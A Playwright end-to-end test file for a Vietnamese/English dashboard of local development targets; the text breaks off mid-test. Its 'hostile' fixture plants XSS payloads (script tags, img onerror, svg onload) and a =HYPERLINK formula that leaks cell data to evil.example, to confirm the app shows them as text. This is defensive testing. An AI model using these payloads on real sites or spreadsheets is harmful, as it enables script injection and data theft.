// End-to-end tests of the release build in headless Chromium (playwright-core + /usr/bin/chromium).
// Usage: node e2e/e2e.mjs [--dist DIR] [--shots DIR] [--only NAME[,NAME…]] [--list]
// Prints "N passed, N failed"; exits 1 on failure. `--only kiosk` runs one section; `--list` names them.
import { chromium } from 'playwright-core';
import fs from 'node:fs';
import path from 'node:path';
import { createRequire } from 'node:module';
import { parseArgs } from 'node:util';
import { startServer, HANG, slowly } from './server.mjs';

const { values: options } = parseArgs({
  options: { dist: { type: 'string', default: 'dist' }, shots: { type: 'string', default: 'target/screenshots' }, only: { type: 'string' }, list: { type: 'boolean' } },
});
const dist = path.resolve(options.dist);
const shots = path.resolve(options.shots);
const only = options.only ? new Set(options.only.split(',')) : null;
const SECTIONS = ['overview', 'english', 'axe', 'errors', 'hostile', 'views', 'places', 'all-places', 'filters', 'hover', 'theme', 'files', 'params',
  'timing', 'present', 'slides', 'kiosk', 'stale', 'offline', 'faults', 'origin', 'csp', 'names', 'trap', 'exports', 'print', 'contrast', 'install', 'slide-layout', 'pace', 'sheets', 'memory', 'split'];
if (options.list) { console.log(SECTIONS.join('\n')); process.exit(0); }
for (const name of only ?? []) if (!SECTIONS.includes(name)) { console.error(`unknown section "${name}"; sections: ${SECTIONS.join(', ')}`); process.exit(2); }
fs.mkdirSync(shots, { recursive: true });
const require = createRequire(import.meta.url);
const axeSource = fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');

// Fixtures: a dataset with hostile text in every name and quote, a truncated one, a wrong-typed one.
const defaultText = fs.readFileSync(path.join(dist, 'data/default.json'), 'utf8');
const HOSTILE = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=2">', '"><svg onload="window.__pwned=3">'];
const hostile = JSON.parse(defaultText);
let counter = 0;
const evil = () => HOSTILE[counter++ % HOSTILE.length];
hostile.title = { vi: evil(), en: evil() };
for (const list of [hostile.localities, hostile.indicators, hostile.domains]) {
  for (const item of list) item.name = { vi: `${item.name.vi} ${evil()}`, en: evil() };
}
for (const indicator of hostile.indicators) indicator.unit = { vi: evil(), en: evil() };
hostile.indicators[0].name = { vi: '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")', en: '@SUM(A1)' };
for (const record of hostile.records) {
  for (const result of record.results ?? []) result.source.quote = evil();
}
const fixtures = new Map([
  ['/fixtures/hostile.json', JSON.stringify(hostile)],
  ['/fixtures/truncated.json', defaultText.slice(0, Math.floor(defaultText.length / 2))],
  ['/fixtures/wrong-type.json', defaultText.replace('"value": 67.5', '"value": "67,5"')],
]);

// A dataset split by province: an index file and two parts, the illustrative province and a
// second made from it (every id prefixed, every result lower), with the counts its index states.
const illustrativeText = fs.readFileSync(path.join(dist, 'data/illustrative.json'), 'utf8');
const secondProvince = JSON.parse(illustrativeText);
const renamed = (id) => (id == null ? id : `b-${id}`);
for (const place of secondProvince.localities) {
  place.id = renamed(place.id);
  place.parent = renamed(place.parent);
  if (place.formed_from) place.formed_from = place.formed_from.map(renamed);
  if (place.province) place.province = 'Lâm Hà';
  if (place.level === 'province') place.name = { vi: 'Lâm Hà', en: 'Lâm Hà' };
}
for (const list of [secondProvince.records, secondProvince.congresses ?? [], secondProvince.stated_summaries ?? []]) {
  for (const item of list) item.locality = renamed(item.locality);
}
for (const record of secondProvince.records) for (const result of record.results ?? []) if (typeof result.value === 'number') result.value *= 0.5;
secondProvince.title = { vi: 'Dữ liệu minh họa: tỉnh Lâm Hà', en: 'Illustrative data: Lâm Hà province' };
const splitIndex = {
  format: 'chitieu-dataset', version: 1, title: { vi: 'Hai tỉnh minh họa', en: 'Two illustrative provinces' }, data_as_of: secondProvince.data_as_of,
  localities: [{ id: 'minh-son', name: { vi: 'Minh Sơn' }, level: 'province' }, { id: 'b-minh-son', name: { vi: 'Lâm Hà' }, level: 'province' }],
  terms: secondProvince.terms,
  parts: [
    { locality: 'minh-son', file: 'tinh/minh-son.json', localities: JSON.parse(illustrativeText).localities.map((place) => place.id),
      summaries: [['2020-2025', 14, 20, 40, 10, 0, 5], ['2025-2030', 14, 3, 10, 2, 60, 1]] },
    { locality: 'b-minh-son', file: 'tinh/lam-ha.json', localities: secondProvince.localities.map((place) => place.id),
      summaries: [['2020-2025', 14, 2, 10, 55, 0, 8]] },
  ],
};
fixtures.set('/fixtures/split/index.json', JSON.stringify(splitIndex));
// An index one of whose files is not on the server.
fixtures.set('/fixtures/split/gone.json', JSON.stringify({ ...splitIndex,
  localities: [...splitIndex.localities, { id: 'gone', name: { vi: 'Tỉnh Vắng' }, level: 'province' }],
  parts: [...splitIndex.parts, { locality: 'gone', file: 'tinh/khong-co.json' }] }));
fixtures.set('/fixtures/split/tinh/minh-son.json', illustrativeText);
fixtures.set('/fixtures/split/tinh/lam-ha.json', JSON.stringify(secondProvince));

const { server, base } = await startServer(dist, fixtures);
const browser = await chromium.launch({
  executablePath: '/usr/bin/chromium',
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', '--font-render-hinting=none', '--enable-precise-memory-info', '--js-flags=--expose-gc'],
});

let passed = 0;
let failed = 0;
function check(name, ok, detail = '') {
  if (ok) { passed += 1; console.log(`ok   ${name}`); }
  else { failed += 1; console.log(`FAIL ${name}${detail ? `: ${detail}` : ''}`); }
}

// Runs one named section unless --only leaves it out; a section that throws counts as a failure
// and the run goes on with the next one.
async function section(name, body) {
  if (only && !only.has(name)) return;
  const started = Date.now();
  console.log(`--- ${name}`);
  try { await body(); } catch (error) { check(`${name}: section ran to the end`, false, error.stack ?? String(error)); }
  console.log(`--- ${name}: ${((Date.now() - started) / 1000).toFixed(1)} s`);
}

// `bypassCSP` lets axe-core be injected; the csp section checks the app under its policy.
async function open(query, viewport = { width: 1920, height: 1080 }, { fakeClock = false, bypassCSP = false, touch = false } = {}) {
  const context = await browser.newContext({ viewport, deviceScaleFactor: 1, bypassCSP, hasTouch: touch, isMobile: touch });
  if (fakeClock) await context.clock.install();
  const page = await context.newPage();
  const problems = [];
  page.on('console', (message) => { if (message.type() === 'error' || message.type() === 'warning') problems.push(`${message.type()}: ${message.text()}`); });
  page.on('pageerror', (error) => problems.push(`pageerror: ${error.message}`));
  page.on('dialog', async (dialog) => { problems.push(`dialog: ${dialog.message()}`); await dialog.dismiss(); });
  // The browser drops its own favicon fetch when a test reloads the page meanwhile: not the app's.
  page.on('requestfailed', (request) => {
    if (!(request.url().includes('/icons/') && request.failure()?.errorText === 'net::ERR_ABORTED')) problems.push(`requestfailed: ${request.url()} (${request.failure()?.errorText})`);
  });
  page.on('request', (request) => { if (!request.url().startsWith(base)) problems.push(`left the origin: ${request.url()}`); });
  await page.goto(`${base}${query}`);
  await page.waitForFunction(() => ['ready', 'error'].includes(document.documentElement.dataset.state), null, { timeout: 30000 });
  return { context, page, problems };
}

// The wasm modules a page fetched itself (the service worker's precaching is not the page's).
const fetchedWasm = (page) => page.evaluate(() => performance.getEntriesByType('resource').map((entry) => new URL(entry.name).pathname.split('/').pop()).filter((name) => name.endsWith('.wasm')));

// 1. The overview at three screen sizes: ready, a chart with bars, nothing clipped, no console noise.
await section('overview', async () => {
const sizes = [[1366, 768], [1920, 1080], [3840, 2160]];
const fontSizes = [];
for (const [width, height] of sizes) {
  const { context, page, problems } = await open('', { width, height });
  const state = await page.evaluate(() => document.documentElement.dataset.state);
  check(`${width}x${height}: data-state is ready`, state === 'ready', state);
  const wasm = await fetchedWasm(page);
  check(`${width}x${height}: the page fetches the desk app only, not the stage app`, wasm.length === 1 && wasm[0].startsWith('chitieu-app-'), wasm.join(', '));
  const data = await page.evaluate(() => performance.getEntriesByType('resource').filter((entry) => entry.name.endsWith('/data/default.json')).map((entry) => entry.initiatorType));
  check(`${width}x${height}: the dataset is fetched once, from the start of the page (the start-up script's early fetch, which the app reads)`, data.length === 1 && data[0] === 'link', data.join(', '));
  const mark = await page.evaluate(() => performance.getEntriesByName('chitieu:ready').length);
  check(`${width}x${height}: performance mark chitieu:ready`, mark === 1, `${mark} marks`);
  const chart = await page.evaluate(() => {
    const svg = document.querySelector('#ranking-chart svg');
    if (!svg) return null;
    const box = svg.getBoundingClientRect();
    const texts = [...svg.querySelectorAll('text')];
    const sizes = texts.map((text) => text.getBoundingClientRect().height).filter((h) => h > 0);
    return {
      bars: svg.querySelectorAll('rect').length, role: svg.getAttribute('role'), label: svg.getAttribute('aria-label'),
      width: box.width, right: box.right, viewport: innerWidth, scrollWidth: document.documentElement.scrollWidth,
      minText: Math.min(...sizes), texts: texts.map((text) => text.textContent.trim()),
    };
  });
  check(`${width}x${height}: ranking chart drawn with bars`, chart && chart.bars > 5, JSON.stringify(chart?.bars));
  check(`${width}x${height}: chart is an image with a label`, chart?.role === 'img' && chart.label.length > 10);
  check(`${width}x${height}: no horizontal overflow`, chart && chart.scrollWidth <= chart.viewport && chart.right <= chart.viewport, JSON.stringify(chart && { right: chart.right, scroll: chart.scrollWidth }));
  check(`${width}x${height}: tick labels use Vietnamese numbers`, chart?.texts.some((text) => /^\d{1,3}(\.\d{3})*$/.test(text)) && !chart.texts.some((text) => /^\d+\.\d{1,2}$/.test(text)));
  check(`${width}x${height}: Vietnamese percentages in bar labels`, chart?.texts.some((text) => /\d+,\d+\s%/.test(text)), chart?.texts.slice(0, 5).join(' | '));
  fontSizes.push(chart?.minText ?? 0);
  check(`${width}x${height}: no console errors or warnings`, problems.length === 0, problems.join('; '));
  await page.screenshot({ path: path.join(shots, `overview-${width}x${height}.png`), fullPage: false });
  await context.close();
}
check('chart text grows with the screen', fontSizes[2] > fontSizes[0] * 1.5, fontSizes.map((size) => size.toFixed(1)).join(' < '));
});

// 2. English.
await section('english', async () => {
  const { context, page, problems } = await open('?lang=en');
  const info = await page.evaluate(() => ({ lang: document.documentElement.lang, headline: document.querySelector('.headline')?.textContent ?? '' }));
  check('lang=en: document language is en', info.lang === 'en', info.lang);
  check('lang=en: headline is English', /targets met/.test(info.headline), info.headline);
  check('lang=en: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
});

// 3. Accessibility of the overview (axe-core).
await section('axe', async () => {
  const { context, page } = await open('', undefined, { bypassCSP: true });
  await page.addScriptTag({ content: axeSource });
  const result = await page.evaluate(async () => {
    const report = await window.axe.run(document, { resultTypes: ['violations'] });
    return report.violations.map((violation) => `${violation.id} (${violation.nodes.length})`);
  });
  check('axe-core finds no violations on the overview', result.length === 0, result.join(', '));
  await context.close();
});

// 4. A missing dataset: a readable error naming the file, never a blank page.
await section('errors', async () => {
  const { context, page, problems } = await open('?data=missing.json');
  const info = await page.evaluate(() => ({
    state: document.documentElement.dataset.state,
    text: document.querySelector('.error-panel')?.textContent ?? '',
    link: document.querySelector('.error-panel a')?.getAttribute('href'),
  }));
  check('missing dataset: data-state is error', info.state === 'error', info.state);
  check('missing dataset: the panel names the file and the status', info.text.includes('missing.json') && info.text.includes('404'), info.text);
  check('missing dataset: a 404 says to check the name and path, not to wait', /kiểm tra tên tệp và đường dẫn/.test(info.text) && !/thử lại sau/.test(info.text), info.text);
  check('missing dataset: offers the default dataset', info.link === './', String(info.link));
  const other = await page.evaluate(() => ({ href: document.querySelector('.error-panel a[lang="en"]')?.getAttribute('href'), text: document.querySelector('.error-panel a[lang="en"]')?.textContent }));
  check('missing dataset: the panel switches language, keeping the file asked for', other.text === 'English' && /lang=en/.test(other.href) && /data=missing\.json/.test(other.href), JSON.stringify(other));
  await page.screenshot({ path: path.join(shots, 'error-missing.png') });
  // … and a file of the user's own: a bad one is refused with its problems, a good one shown.
  await page.setInputFiles('#open-file', { name: 'hong.json', mimeType: 'application/json', buffer: Buffer.from('{"format": ') });
  await page.waitForSelector('.error-panel.rejected');
  const refused = await page.evaluate(() => document.querySelector('.error-panel.rejected').textContent);
  check('missing dataset: a bad file opened from the error panel is refused, located', /hong\.json/.test(refused) && /dòng \d+, cột \d+/.test(refused), refused.slice(0, 200));
  await page.setInputFiles('#open-file', { name: 'cua-toi.json', mimeType: 'application/json', buffer: Buffer.from(defaultText) });
  await page.waitForFunction(() => document.documentElement.dataset.state === 'ready', null, { timeout: 15000 }).catch(() => {});
  const opened = await page.evaluate(() => ({ state: document.documentElement.dataset.state, charts: document.querySelectorAll('#content svg').length }));
  check('missing dataset: a good file opened from the error panel is shown', opened.state === 'ready' && opened.charts > 0, JSON.stringify(opened));
  check('missing dataset: only the expected 404 in the console', problems.every((problem) => /404|missing\.json/.test(problem)), problems.join('; '));
  await context.close();
  {
    // A presenter whose file is missing: the way out keeps the presentation, its place and language.
    const { context, page } = await open('?mode=present&unit=cho-moi&lang=en&data=missing.json');
    const link = await page.evaluate(() => [...document.querySelectorAll('.error-panel a')].find((link) => /default/.test(link.textContent))?.getAttribute('href'));
    check('missing dataset in present mode: "Open the default dataset" stays a presentation of that place', link === '?mode=present&lang=en&unit=cho-moi', String(link));
    await page.click('.error-panel a:text("Open the default dataset")');
    await page.waitForFunction(() => document.documentElement.dataset.state === 'ready', null, { timeout: 15000 }).catch(() => {});
    const after = await page.evaluate(() => ({ stage: !!document.querySelector('.stage svg'), search: location.search }));
    check('… and opens as one', after.stage && after.search.includes('mode=present'), JSON.stringify(after));
    await context.close();
  }
  // Malformed datasets: located problems.
  {
  const { context, page } = await open('?data=fixtures/truncated.json');
  const text = await page.evaluate(() => document.querySelector('.error-panel')?.textContent ?? '');
  check('truncated dataset: error located by line and column', /dòng \d+, cột \d+/.test(text), text.slice(0, 200));
  await context.close();
}
{
  const { context, page } = await open('?data=fixtures/wrong-type.json&lang=en');
  const text = await page.evaluate(() => document.querySelector('.error-panel')?.textContent ?? '');
  check('wrong-typed dataset: error located by JSON path', text.includes('$.records[0].target.value') && text.includes('Wrong type'), text.slice(0, 300));
  await context.close();
  }
});

// 6. Hostile text stays text.
await section('hostile', async () => {
  const { context, page, problems } = await open('?data=fixtures/hostile.json');
  const info = await page.evaluate(() => ({
    state: document.documentElement.dataset.state,
    pwned: window.__pwned ?? null,
    images: document.querySelectorAll('img').length,
    scripts: [...document.querySelectorAll('script')].filter((script) => script.textContent.includes('__pwned')).length,
    shown: document.body.textContent.includes('<script>window.__pwned=1</script>'),
  }));
  check('hostile dataset: loads', info.state === 'ready', info.state);
  check('hostile dataset: no script ran, no element injected', info.pwned === null && info.images === 0 && info.scripts === 0, JSON.stringify(info));
  check('hostile dataset: markup shown as text', info.shown);
  check('hostile dataset: no dialogs or errors', problems.length === 0, problems.join('; '));
  await page.screenshot({ path: path.join(shots, 'hostile.png') });
  await context.close();
});


// ------------------------------------------------------------------------------- Explore (issue 4)
await section('views', async () => {
const VIEWS = ['overview', 'ranking', 'indicator', 'compare', 'places', 'structure'];
const FOUR_SIZES = [[390, 844], [1366, 768], [1920, 1080], [3840, 2160]];
for (const [width, height] of FOUR_SIZES) {
  for (const view of VIEWS) {
    // Structure needs a locality with sector shares (only Kbang has them in the default dataset).
    const extra = { indicator: '&indicator=income-per-capita', structure: '&unit=kbang' }[view] ?? '';
    const query = `?view=${view}${extra}`;
    const { context, page, problems } = await open(query, { width, height }, { bypassCSP: width === 1920 });
    const info = await page.evaluate(() => ({
      state: document.documentElement.dataset.state,
      charts: document.querySelectorAll('.chart-svg svg').length,
      overflow: document.documentElement.scrollWidth - innerWidth,
      clipped: [...document.querySelectorAll('.chart-svg svg')].some((svg) => svg.getBoundingClientRect().right > innerWidth + 1),
    }));
    check(`${view} ${width}x${height}: ready with a chart, nothing wider than the screen`,
      info.state === 'ready' && info.charts >= 1 && info.overflow <= 0 && !info.clipped, JSON.stringify(info));
    check(`${view} ${width}x${height}: no console errors`, problems.length === 0, problems.join('; '));
    await page.screenshot({ path: path.join(shots, `${view}-${width}x${height}.png`), fullPage: true });
    if (width === 1920) {
      await page.addScriptTag({ content: axeSource });
      const violations = await page.evaluate(async () => (await window.axe.run(document, { resultTypes: ['violations'] }))
        .violations.map((violation) => `${violation.id}: ${violation.nodes.slice(0, 3).map((node) => node.target.join(' ')).join(' | ')}`));
      check(`${view}: axe-core finds no violations`, violations.length === 0, violations.join('; '));
    }
    await context.close();
  }
}
});

await section('places', async () => {
  // No view shows a figure of a place other than the one on screen: structure for a locality
  // without sector shares says so instead of showing another locality's.
  const { context, page, problems } = await open('?view=structure&unit=ben-sung&term=2020-2025');
  const info = await page.evaluate(() => ({
    charts: document.querySelectorAll('#structure-chart svg').length,
    empty: document.querySelector('#content .empty')?.textContent ?? '',
    text: document.querySelector('#content').textContent,
  }));
  check('structure for a locality without sector shares says so and draws nothing',
    info.charts === 0 && /không có chỉ tiêu cơ cấu/.test(info.empty) && !/48,5/.test(info.text), JSON.stringify(info).slice(0, 300));
  check('places: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
  // A new page, not a navigation: a navigation would cancel the first page's font requests.
  const second = await open('?view=structure&unit=kbang');
  const kbang = await second.page.evaluate(() => document.querySelector('#structure-chart svg')?.getAttribute('aria-label') ?? '');
  check('structure for Kbang is Kbang\'s', /Kbang/.test(kbang), kbang);
  check('places (Kbang): no console errors', second.problems.length === 0, second.problems.join('; '));
  const few = await second.page.locator('#place-search:visible').count();
  check('a dataset of few places has no place search (its picker is short)', few === 0, `${few}`);
  await second.context.close();
  // Many places (the illustrative province: 12 places and terms): a search box narrows the picker.
  const province = await open('?data=data/illustrative.json');
  const options = () => province.page.evaluate(() => [...document.querySelectorAll('#unit-term option')].map((option) => option.textContent));
  const all = await options();
  const here = await province.page.evaluate(() => document.querySelector('#unit-term').selectedOptions[0]?.textContent);
  // Where each filter's row starts (the picker itself narrows to the places found, a few pixels).
  const fieldBoxes = () => province.page.evaluate(() => [...document.querySelectorAll('.filters .field')].map((field) => Math.round(field.getBoundingClientRect().y)).join(' '));
  const wide = province.page.viewportSize();
  await province.page.setViewportSize({ width: 1366, height: 768 });
  const boxesBefore = await fieldBoxes();
  await province.page.fill('#place-search', 'dong hung');
  await province.page.waitForFunction(() => document.querySelectorAll('#unit-term option').length < 12);
  const boxesAfter = await fieldBoxes();
  await province.page.setViewportSize(wide);
  check('the place search\'s answer moves no filter to another row (outside tester: typing shifted the row)', boxesBefore === boxesAfter, `${boxesBefore} → ${boxesAfter}`);
  const narrowed = await options();
  const count = await province.page.locator('.place-count').textContent();
  check('the place search narrows the picker to a commune typed without diacritics (and the place on screen)', narrowed.filter((label) => label !== here).every((label) => label.includes('Đông Hưng')) && narrowed.some((label) => label.includes('Đông Hưng')) && narrowed.length < all.length, `${narrowed.join(' | ')} of ${all.length}`);
  check('… and says how many match and which Enter opens', /^\d+ nơi, nhiệm kỳ khớp/.test(count) && count.startsWith(String(narrowed.filter((label) => label.includes('Đông Hưng')).length)) && /Enter mở Xã Đông Hưng, /.test(count), count);
  await province.page.fill('#place-search', 'huyen tan lap');
  await province.page.waitForFunction(() => [...document.querySelectorAll('#unit-term option')].some((option) => option.textContent.includes('Đông Phú')));
  const district = (await options()).join(' | ');
  check('the district\'s name finds its communes too', /Đông Hưng/.test(district) && /Đông Phú/.test(district) && (!/Sơn Lâm/.test(district) || /Sơn Lâm/.test(here)), district);
  await province.page.fill('#place-search', 'khong co noi nao');
  await province.page.waitForFunction(() => document.querySelector('.place-count')?.textContent === 'Không có nơi nào khớp.');
  check('a search that matches no place says so', true);
  await province.page.fill('#place-search', 'dong hung');
  await province.page.waitForFunction(() => document.querySelectorAll('#unit-term option').length < 12);
  await province.page.press('#place-search', 'Enter');
  await province.page.waitForFunction(() => new URLSearchParams(location.search).get('unit') === 'dong-hung');
  await province.page.waitForFunction((n) => document.querySelectorAll('#unit-term option').length === n, all.length);
  const chosen = await province.page.evaluate(() => ({ picker: document.querySelector('#unit-term').value, search: document.querySelector('#place-search').value, content: document.querySelector('#content')?.textContent.includes('Đông Hưng') }));
  check('Enter opens the first place found: the picker and the page follow, the search empties and the picker lists every place again', chosen.picker.startsWith('dong-hung|') && chosen.search === '' && chosen.content, JSON.stringify(chosen));
  // Enter opens the place found in the term on screen when it reports in that term: Đông Hưng
  // given a 2025-2030 term too, searched from a 2025-2030 place.
  const illustrative = JSON.parse(fs.readFileSync(path.join(dist, 'data/illustrative.json'), 'utf8'));
  illustrative.records.push(...illustrative.records.filter((record) => record.locality === 'tan-hoa').map((record) => ({ ...record, locality: 'dong-hung' })));
  await province.page.setInputFiles('#open-file', { name: 'hai-nhiem-ky.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(illustrative)) });
  await province.page.waitForFunction(() => [...document.querySelectorAll('#unit-term option')].some((option) => option.value === 'dong-hung|2025-2030'));
  await province.page.selectOption('#unit-term', 'tan-hoa|2025-2030');
  await province.page.fill('#place-search', 'dong hung');
  await province.page.waitForFunction(() => /Enter mở/.test(document.querySelector('.place-count')?.textContent ?? ''));
  await province.page.press('#place-search', 'Enter');
  await province.page.waitForFunction(() => new URLSearchParams(location.search).get('unit') === 'dong-hung');
  const kept = await province.page.evaluate(() => document.querySelector('#unit-term').value);
  check('Enter keeps the term on screen when the place found reports in it', kept === 'dong-hung|2025-2030', kept);
  // A commune with its district's name, and not the middle of a word.
  await province.page.fill('#place-search', 'hoa thang tan lap');
  await province.page.waitForFunction(() => /Enter mở Xã Hòa Thắng/.test(document.querySelector('.place-count')?.textContent ?? ''));
  check('a commune is found by its name and its district\'s together', true);
  await province.page.fill('#place-search', '');
  check('place search: no console errors', province.problems.length === 0, province.problems.join('; '));
  await province.context.close();
});

await section('all-places', async () => {
  // Every commune-level place of the illustrative province in 2020-2025 on one chart: the one on
  // screen drawn apart, each square a place to hover and open.
  const { context, page, problems } = await open('?data=data/illustrative.json&view=places&unit=hoa-nam&term=2020-2025', { width: 1366, height: 768 });
  const chart = '#places-chart';
  const info = await page.evaluate((chart) => {
    const svg = document.querySelector(`${chart} svg`);
    const fills = [...svg.querySelectorAll('rect')].map((rect) => (rect.getAttribute('fill') || '').toLowerCase());
    return { label: svg.getAttribute('aria-label'), title: document.querySelector(`${chart} .chart-title`).textContent,
      orange: fills.filter((fill) => fill === '#c86e00').length, blue: fills.filter((fill) => fill === '#0b5cad').length,
      source: document.querySelector(`${chart} .chart-source`).textContent, tab: document.querySelector('#tab-places').getAttribute('aria-pressed') };
  }, chart);
  check('all places: the title states the finding for the province and term', info.title.startsWith('Minh Sơn, 2020-2025: 6/9 địa phương cùng cấp đạt') && info.tab === 'true', JSON.stringify(info));
  check('all places: one square per place, the place on screen apart (legend swatch and square each)', info.orange === 2 && info.blue === 9, JSON.stringify(info));
  check('all places: the sources are the places\' own documents', /^Nguồn: /.test(info.source), info.source);
  const square = (fill) => page.evaluate(({ chart, fill }) => {
    const rects = [...document.querySelectorAll(`${chart} svg rect`)].filter((rect) => (rect.getAttribute('fill') || '').toLowerCase() === fill);
    // The last of the colour: the first is the legend's swatch.
    const box = rects[rects.length - 1].getBoundingClientRect();
    return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
  }, { chart, fill });
  const own = await square('#c86e00');
  await page.mouse.move(own.x, own.y);
  const tooltip = await page.locator(`${chart} .tooltip`).textContent({ timeout: 3000 }).catch(() => null);
  check('all places: hovering the ringed square names the place on screen with its count', tooltip === 'Xã Hòa Nam: 7/8 đạt (87,5\u00a0%)', String(tooltip));
  const outline = await page.evaluate((chart) => { const box = document.querySelector(`${chart} .mark-focus`)?.getBoundingClientRect(); return box && { x: box.x + box.width / 2, y: box.y + box.height / 2 }; }, chart);
  check('all places: the outline sits on the square under the pointer', outline && Math.abs(outline.x - own.x) < 2 && Math.abs(outline.y - own.y) < 2, JSON.stringify({ outline, own }));
  await page.screenshot({ path: path.join(shots, 'all-places-hover.png') });
  await page.click(`${chart} .table-twin summary`);
  await page.waitForFunction((chart) => document.querySelectorAll(`${chart} .data-table tbody tr`).length > 0, chart, { timeout: 5000 }).catch(() => {});
  const rows = await page.evaluate((chart) => [...document.querySelectorAll(`${chart} .data-table tbody tr`)].map((row) => [...row.cells].map((cell) => cell.textContent)), chart);
  check('all places: the table lists every place from the highest share', rows.length === 9 && rows[0][0] === 'Thị trấn Tân Lập' && rows[0][1] === '10' && rows[8][0] === 'Xã Lâm Xuyên', JSON.stringify(rows.slice(0, 2)));
  // Its files are named by province and term (as its title is), not by the place on screen.
  const [download] = await Promise.all([page.waitForEvent('download'), page.click(`${chart} button:has-text("Tải CSV")`)]);
  check('all places: the CSV is named by province and term', download.suggestedFilename() === 'minh-son-2020-2025-places.csv', download.suggestedFilename());
  const other = await square('#0b5cad');
  await page.mouse.click(other.x, other.y);
  await page.waitForFunction(() => new URLSearchParams(location.search).get('view') === null || new URLSearchParams(location.search).get('view') === 'overview', null, { timeout: 5000 }).catch(() => {});
  const opened = await page.evaluate(() => ({ unit: new URLSearchParams(location.search).get('unit'), term: new URLSearchParams(location.search).get('term'), view: new URLSearchParams(location.search).get('view'), picker: document.querySelector('#unit-term').value }));
  check('all places: a square opens that place\'s overview in the same term', opened.unit && opened.unit !== 'hoa-nam' && opened.picker === `${opened.unit}|2020-2025` && opened.view !== 'places', JSON.stringify(opened));
  check('all places: no console errors', problems.length === 0, problems.join('; '));
  await context.close();
  // The domain filter narrows what is counted, and the title says which domain.
  const economy = await open('?data=data/illustrative.json&view=places&unit=hoa-nam&term=2020-2025&domain=economy', { width: 1366, height: 768 });
  const narrowed = await economy.page.evaluate(() => document.querySelector('#places-chart .chart-title').textContent);
  check('all places: the domain filter narrows the count and names the domain', narrowed.startsWith('Minh Sơn, 2020-2025, Kinh tế: '), narrowed);
  await economy.context.close();
  // A tooltip near the chart's edge stays on screen (it was centred on the pointer and cut: Thị
  // trấn Tân Lập's, at 91 %, ran 50 px past a phone's right edge).
  const narrow = await open('?data=data/illustrative.json&view=places&unit=hoa-nam&term=2020-2025', { width: 390, height: 844 });
  await narrow.page.locator('#places-chart svg').scrollIntoViewIfNeeded();
  const rightmost = await narrow.page.evaluate(() => {
    const boxes = [...document.querySelectorAll('#places-chart svg rect')].filter((rect) => (rect.getAttribute('fill') || '').toLowerCase() === '#0b5cad').map((rect) => rect.getBoundingClientRect());
    const box = boxes.slice(1).reduce((right, box) => (box.x > right.x ? box : right));
    return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
  });
  await narrow.page.mouse.move(rightmost.x, rightmost.y);
  await narrow.page.waitForSelector('#places-chart .tooltip', { timeout: 3000 }).catch(() => {});
  const tip = await narrow.page.evaluate(() => { const box = document.querySelector('#places-chart .tooltip')?.getBoundingClientRect(); return box && { left: box.left, right: box.right, width: innerWidth }; });
  check('a tooltip at the chart\'s right edge on a phone stays on screen', tip && tip.left >= 0 && tip.right <= tip.width, JSON.stringify(tip));
  await narrow.context.close();
  // A phone: a tap on a square opens that place (a finger lifted leaves the chart at once, which
  // cleared the mark before the click could open it).
  const phone = await open('?data=data/illustrative.json&view=places&unit=hoa-nam&term=2020-2025', { width: 390, height: 844 }, { touch: true });
  await phone.page.locator('#places-chart svg').scrollIntoViewIfNeeded();
  const target = await phone.page.evaluate(() => {
    const rects = [...document.querySelectorAll('#places-chart svg rect')].filter((rect) => (rect.getAttribute('fill') || '').toLowerCase() === '#0b5cad');
    const box = rects[rects.length - 1].getBoundingClientRect();
    return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
  });
  await phone.page.touchscreen.tap(target.x, target.y);
  await phone.page.waitForFunction(() => new URLSearchParams(location.search).get('unit') !== 'hoa-nam', null, { timeout: 5000 }).catch(() => {});
  const tapped = await phone.page.evaluate(() => ({ unit: new URLSearchParams(location.search).get('unit'), view: new URLSearchParams(location.search).get('view') }));
  check('all places on a phone: a tap on a square opens that place', tapped.unit !== 'hoa-nam' && tapped.view !== 'places', JSON.stringify(tapped));
  check('all places on a phone: no console errors', phone.problems.length === 0, phone.problems.join('; '));
  await phone.context.close();
  // Compare: the place on screen among the others has its name in bold.
  const compare = await open('?data=data/illustrative.json&view=compare&unit=hoa-nam&term=2020-2025', { width: 1366, height: 768 });
  const bold = await compare.page.evaluate(() => [...document.querySelectorAll('#compare-chart svg text')].filter((text) => /bold/.test(text.getAttribute('font-weight') ?? '') || /bold/.test(text.getAttribute('style') ?? '') || /bold/.test(text.getAttribute('font-family') ?? '')).map((text) => text.textContent));
  check('compare: the place on screen is named in bold, and only it', bold.length >= 1 && bold.join(' ').includes('Hòa Nam') && !bold.join(' ').includes('Đông'), JSON.stringify(bold));
  await compare.context.close();
});

await section('filters', async () => {
  const { context, page, problems } = await open('');
  const listRows = () => page.locator('.indicator-list tbody tr').count();
  const all = await listRows();
  // Domain filter.
  await page.selectOption('#domain', 'economy');
  await page.waitForFunction(() => location.search.includes('domain=economy'));
  const economy = await listRows();
  check('domain filter narrows the list and is in the URL', economy > 0 && economy < all, `${economy} of ${all}`);
  // Status filter.
  await page.selectOption('#domain', '');
  await page.selectOption('#status', 'not_achieved');
  await page.waitForFunction(() => location.search.includes('status=not_achieved'));
  const statuses = await page.locator('.indicator-list td.status').allTextContents();
  check('status filter keeps only that status', statuses.length > 0 && statuses.every((text) => text.includes('Không đạt')), statuses.join(' | '));
  await page.selectOption('#status', '');
  // Search without diacritics.
  await page.fill('#search', 'ho ngheo');
  await page.waitForFunction(() => location.search.includes('q=ho%20ngheo'));
  const found = await page.locator('.indicator-list tbody th').allTextContents();
  check('search "ho ngheo" finds "Tỷ lệ hộ nghèo"', found.length >= 1 && found.every((name) => /hộ nghèo/i.test(name)), found.join(' | '));
  // Matches in other places and terms, next to the search box: each opens that place, the search kept.
  const hereLine = await page.locator('.found-elsewhere span').first().textContent({ timeout: 3000 }).catch(() => null);
  check('search says, next to the box, how many indicators match here (as many as the list shows)', hereLine === `Ở đây: ${found.length} chỉ tiêu khớp.`, `${hereLine} / ${found.length} rows`);
  const elsewhere = await page.locator('.found-elsewhere button').allTextContents();
